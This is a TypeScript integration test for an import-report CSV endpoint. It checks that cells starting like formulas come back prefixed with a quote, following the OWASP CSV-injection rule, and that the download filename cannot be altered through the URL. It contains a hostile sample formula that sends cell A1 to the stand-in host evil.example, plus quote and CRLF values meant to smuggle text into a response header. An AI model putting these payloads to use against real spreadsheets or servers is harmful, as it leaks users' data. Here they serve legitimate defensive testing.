import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { gqlClient, type GqlClient } from '../support/client.js';
import { csv, customersTemplate, finishedJob, storeCodeOf } from '../support/imports.js';
import { startTestServer, type TestServer } from '../support/server.js';
import { createOrg, type TestOrg } from '../support/world.js';

/*
 * The report of an import is opened in spreadsheets by people who did not write the file: a cell
 * that starts like a formula (=, +, -, @, tab, carriage return) comes back prefixed with a single
 * quote (OWASP's CSV-injection rule), in the file's columns and in the columns the server adds.
 * Its file name is built by the server, never taken from the URL.
 */

const FORMULA_START = /^[=+\-@\t\r]/;
const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';

describe('import report CSV', () => {
  let server: TestServer;
  let org: TestOrg;
  let client: GqlClient;
  let origin: string;
  let jobId: string;

  beforeAll(async () => {
    server = await startTestServer();
    org = await createOrg(server.em());
    client = gqlClient(server.url, org.key);
    origin = new URL(server.url).origin;
    const store = await storeCodeOf(server, org);
    const templateId = await customersTemplate(client);
    const file = csv([
      ['Mobile', 'First Name', 'Store', 'Note', '=Cmd'],
      // Every mapped cell is bad, so the row's error messages echo them (the mobile's echoes the formula).
      [HYPERLINK, '+1', '@SUM(1)', '\tx', '-12'],
      ['6591234567', 'Ann', store, '\rfoo', '=1+1'],
    ]);
    const upload = await fetch(`${origin}/imports?templateId=${encodeURIComponent(templateId)}`, {
      method: 'POST',
      headers: { authorization: `Bearer ${org.key}`, 'content-type': 'text/csv' },
      body: file,
    });
    expect(upload.status).toBe(202);
    jobId = ((await upload.json()) as { job: { id: string } }).job.id;
    const done = await finishedJob(server, client, org.key, jobId);
    expect(done.progress).toMatchObject({ rowsRead: 2, rowsRejected: 1 });
  });
  afterAll(() => server?.stop());

  function report(path: string): Promise<Response> {
    return fetch(`${origin}/imports/${path}/report.csv`, { headers: { authorization: `Bearer ${org.key}` } });
  }

  it('prefixes every cell that starts like a formula with a quote, in the original columns and in the messages', async () => {
    const response = await report(jobId);
    expect(response.status).toBe(200);
    const [header, bad, good] = parse(await response.text(), { relax_column_count: false }) as string[][];

    expect(header.slice(0, 5)).toEqual(['Mobile', 'First Name', 'Store', 'Note', "'=Cmd"]);
    expect(bad.slice(0, 5)).toEqual([`'${HYPERLINK}`, "'+1", "'@SUM(1)", "'\tx", "'-12"]);
    expect(bad[5]).toBe('REJECTED');
    // The messages quote the formula: they still do, and no cell of theirs starts with it.
    expect(bad[7]).toContain(HYPERLINK);
    expect(good.slice(0, 5)).toEqual(['6591234567', 'Ann', expect.any(String), "'\rfoo", "'=1+1"]);
    expect(good[5]).toBe('ACCEPTED');
    for (const cell of [header, bad, good].flat()) expect(cell).not.toMatch(FORMULA_START);
  });

  it('names the file after the job, never after the text of the URL', async () => {
    const numericId = Buffer.from(jobId, 'base64url').toString('utf8').split(':')[1];
    const plain = await report(jobId);
    await plain.body?.cancel();
    expect(plain.headers.get('content-disposition')).toBe(`attachment; filename="import-${numericId}-report.csv"`);

    // Base64url decoding skips what is not of its alphabet, so these ids still name the job.
    for (const odd of [`${jobId}%22`, `${jobId}%22%3B%20x%3D%22`, `${jobId}%0D%0A`, `%22${jobId}%22%0D%0A`]) {
      const response = await report(odd);
      await response.body?.cancel();
      expect([200, 404]).toContain(response.status);
      if (response.status === 200) expect(response.headers.get('content-disposition')).toBe(`attachment; filename="import-${numericId}-report.csv"`);
    }
  });
});
